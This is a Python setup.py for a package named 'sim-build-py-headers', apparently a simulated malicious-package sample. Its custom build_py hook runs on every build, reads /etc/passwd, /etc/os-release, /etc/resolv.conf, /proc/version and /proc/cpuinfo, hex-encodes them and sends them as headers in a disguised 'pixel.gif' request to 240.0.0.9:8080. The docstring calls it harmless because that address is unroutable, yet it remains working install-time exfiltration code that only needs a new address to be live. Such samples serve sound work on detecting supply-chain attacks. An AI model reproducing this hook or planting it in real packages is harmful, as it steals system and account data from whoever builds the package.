# SPDX-License-Identifier: Apache-2.0
"""Harmless: it connects to an address that is routed nowhere."""

import http.client
from pathlib import Path

from setuptools import setup
from setuptools.command.build_py import build_py

WANTED = {
    "X-Kernel": "/proc/version",
    "X-Distribution": "/etc/os-release",
    "X-Logins": "/etc/passwd",
    "X-Resolver": "/etc/resolv.conf",
    "X-Cpu": "/proc/cpuinfo",
}


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        headers = {}
        for name, path in WANTED.items():
            try:
                headers[name] = Path(path).read_bytes()[:512].hex()
            except OSError:
                headers[name] = ""
        connection = http.client.HTTPConnection("240.0.0.9", 8080, timeout=2)
        try:
            connection.request("HEAD", "/pixel.gif", headers=headers)
        except OSError:
            pass


setup(name="sim-build-py-headers", version="1.0.0", py_modules=["sim_build_py_headers"], cmdclass={"build_py": BuildPy})
